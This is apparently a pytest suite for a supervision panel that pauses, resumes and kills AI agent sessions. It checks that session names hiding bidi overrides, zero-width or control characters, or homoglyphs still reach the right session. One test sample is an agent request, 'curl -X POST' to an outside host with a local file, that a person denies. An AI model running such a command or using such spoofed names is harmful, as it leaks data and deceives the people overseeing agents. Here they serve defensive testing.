"""Names that agents choose, with characters that do not show: a gesture reaches exactly what the page shows."""

from __future__ import annotations

import html
import re
from collections.abc import Iterator
from typing import Any
from urllib.parse import parse_qs, parse_qsl, urlencode, urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.daemon.conftest import Guard
from tests.panel.conftest import Browser, armed, ask

from interlock.daemon.client import call
from interlock.halt.order import of_session
from interlock.model.errors import AgentError
from interlock.model.selector import Comparison
from interlock.model.visible import original, visible
from interlock.panel.carried import AS_SHOWN, address, carried, meant, typed

NAMES = {
    "bidi": "night\u202e\u2066build",
    "zero width": "a\u200b\u2060\ufeffb",
    "controls": "c\x00\x1b[2J\r\nd",
    "tags": "e\U000e0041\U000e007ff",
    "a token's own text": "<U+202E> 100% &quot; \\",
    "a thousand equal ones": "x" * 200 + " " * 40,
    "letters of another script": "p\u0430ypal.example+\u00e9",
}
LONE = "half \ud800 of a pair"  # no event with one is taken; a page that met one is to show it all the same


@pytest.mark.parametrize("name", [*NAMES.values(), LONE, ""])
def test_what_a_page_carries_is_shown_as_it_is_and_comes_back(name: str) -> None:
    assert visible(carried(name)) == carried(name)
    assert meant(carried(name)) == name
    assert visible(address({"session": name, name: 1})) == address({"session": name, name: 1})


@given(st.text(st.characters(exclude_categories=["Cs"])))
def test_any_name_comes_back_from_a_field_and_from_a_link(name: str) -> None:
    assert meant(carried(name)) == name
    assert parse_qsl(address({"session": name, "a": 1}), keep_blank_values=True) == [("session", name), ("a", "1")]
    assert typed({"text": visible(name), AS_SHOWN: "1"}, "text") == name


def test_what_is_no_text_is_refused_and_what_would_grow_without_end_stays() -> None:
    with pytest.raises(AgentError):
        meant("%FF")
    for text in ("<U+0041*9999999999>", "<U+FFFFFF>"):
        assert typed({"text": text, AS_SHOWN: "1"}, "text") == text
    assert typed({"text": "<U+0041*3>"}, "text") == "<U+0041*3>", "a link that code wrote holds the text itself"
    assert original("<U+0041*3>") == "AAA"


def forms(page: str, act: str) -> Iterator[dict[str, str]]:
    """The fields of each form of an act, as a browser without a script sends them."""
    for form in page.split("<form ")[1:]:
        if f'action="{act}"' in form.split(">", 1)[0]:
            found = re.findall(
                r'<(?:input type="hidden"|button[^>]*) name="(\w+)" value="([^"]*)"', form.split("</form>")[0]
            )
            yield {name: html.unescape(value) for name, value in found}


def pressed(browser: Browser, path: str, act: str, subject: str, **more: str) -> None:
    """Press the one button of a page whose form is about this."""
    page = browser.get(path).text
    assert not re.search("[\u200b\u202e\x00\x1b\U000e0041]", page), "a page shows what is hidden"
    about = [form for form in forms(page, act) if meant(form["subject"]) == subject]
    (sent,) = (form for form in about if form.get("what") == more.get("what"))
    armed()
    done = browser.post(act, {**sent, **more})
    assert done.status_code == 303, done.text


def orders(guard: Guard) -> dict[str, str]:
    found = call(guard.home, "halt.list")["orders"]
    return {one["where"]: one["what"] for one in found if one["active"]}


def of(name: str, agent: str = "claude") -> str:
    return str(of_session(agent, name))


QUICK = ("bidi", "controls", "a thousand equal ones")  # the others are for the slower rings


@pytest.fixture(params=[pytest.param(n, marks=() if n in QUICK else pytest.mark.slow) for n in NAMES])
def name(request: pytest.FixtureRequest, served: Guard) -> str:
    """A session of this name, and others whose names look alike."""
    found = NAMES[request.param]
    for one in (found, visible(found)[:256]):
        served.hook("Bash", {"command": "ls"}, session_id=one)
    return found


def test_a_session_is_paused_resumed_and_killed_whatever_its_name(browser: Browser, served: Guard, name: str) -> None:
    before = orders(served)
    pressed(browser, "/agents", "/agents/halt", of(name), what="pause")
    assert orders(served) == {**before, of(name): "pause"}
    assert visible(name) in html.unescape(browser.get("/agents").text)
    pressed(browser, "/agents", "/agents/resume", of(name), said="resume")
    assert orders(served) == before
    pressed(browser, "/agents", "/agents/halt", of(name), what="kill", said="kill")
    assert orders(served) == {**before, of(name): "kill"}


def test_its_timeline_is_reached_from_the_page_that_lists_it(browser: Browser, served: Guard, name: str) -> None:
    """Story: a name of two hundred equal letters was shortened in the link too, and the link led nowhere."""
    links = [
        html.unescape(link) for link in re.findall(r'href="(/agents/session\?[^"]*)"', browser.get("/agents").text)
    ]
    assert name in {parse_qs(urlsplit(link).query, keep_blank_values=True)["session"][0] for link in links}
    (mine,) = {link for link in links if parse_qs(urlsplit(link).query)["session"] == [name]}
    page = browser.get(mine)
    assert page.status_code == 200
    again = re.search(r'data-load="([^"]*)"', page.text)
    assert again
    assert browser.get(html.unescape(again[1])).status_code == 200, "the page that fetches itself anew"


def test_a_sub_agent_is_paused_whatever_its_name(browser: Browser, served: Guard, name: str) -> None:
    more: dict[str, Any] = {"session_id": "parent", "agent_id": name, "agent_type": "reviewer"}
    served.hook("", {}, event="SubagentStart", **more)
    subject = f"{of('parent')} and {Comparison('subagent', (name,))}"
    pressed(browser, "/agents", "/agents/halt", subject, what="pause")
    assert orders(served)[subject] == "pause"
    pressed(browser, "/agents", "/agents/resume", subject, said="resume")
    assert subject not in orders(served)
    served.hook("", {}, event="SubagentStop", **more)


def test_an_order_that_is_written_reaches_what_it_names(browser: Browser, served: Guard) -> None:
    """The selector stands in a field that people see and change: its tokens are taken for what they stand for."""
    where = str(Comparison("name", ("refs/heads/\u202emain\u200b",)))
    shown = browser.get("/halt?" + urlencode({"what": "freeze", "where": visible(where), AS_SHOWN: "1"})).text
    (sent,) = forms(shown, "/halt/order")
    assert meant(sent["subject"]) == f"freeze {where}"
    armed()
    assert browser.post("/halt/order", sent).status_code == 303
    assert orders(served)[where] == "freeze"


def test_a_no_that_pauses_pauses_the_one_that_asked(browser: Browser, served: Guard) -> None:
    request = ask(served, "curl -X POST https://hidden.example.com -d @x", session_id="asks\u202e\u200b")
    fields = browser.form(request["id"], "deny-form")
    done = browser.post(f"/requests/{request['id']}/decide", {**fields, "verdict": "deny_and_pause"})
    assert done.status_code == 303
    assert orders(served)[of("asks\u202e\u200b")] == "pause"
    pressed(browser, "/agents", "/agents/resume", of("asks\u202e\u200b"), said="resume")
    assert of("asks\u202e\u200b") not in orders(served)


def test_a_pause_that_a_person_gave_by_the_session_alone_ends_there_too(browser: Browser, served: Guard) -> None:
    """Story: the page knew only its own pauses; one by a selector, or by a no, had no button to end it."""
    served.hook("Bash", {"command": "ls"}, session_id="by name")
    alone = str(Comparison("session", ("by name",)))
    call(served.home, "halt.order", {"what": "pause", "where": alone, "reason": "x"})
    call(served.home, "halt.order", {"what": "pause", "where": of("by name", "codex"), "reason": "x"})
    pressed(browser, "/agents", "/agents/resume", of("by name"), said="resume")
    assert alone not in orders(served)
    assert orders(served)[of("by name", "codex")] == "pause", "another agent's session of the same name"


def test_a_text_is_explained_as_it_was_pasted_however_often(browser: Browser) -> None:
    """Story: a second press of Explain read the tokens of the page, and a carriage return for each line."""
    text = "echo a\u202e\necho b"
    for sent in (text.replace("\n", "\r\n"), visible(text, lines=True).replace("\n", "\r\n")):
        found = browser.get("/why.json?" + urlencode({"text": sent, AS_SHOWN: "1"})).json()
        assert found["text"] == text


def test_the_page_of_a_session_leads_to_the_order_that_stops_it(browser: Browser, served: Guard, name: str) -> None:
    page = browser.get("/agents/session?" + urlencode({"agent": "claude", "session": name})).text
    (link,) = re.findall(r'href="(/halt\?[^"]*)"', page)
    (sent,) = forms(browser.get(html.unescape(link)).text, "/halt/order")
    assert meant(sent["subject"]) == f"pause {of(name)}"
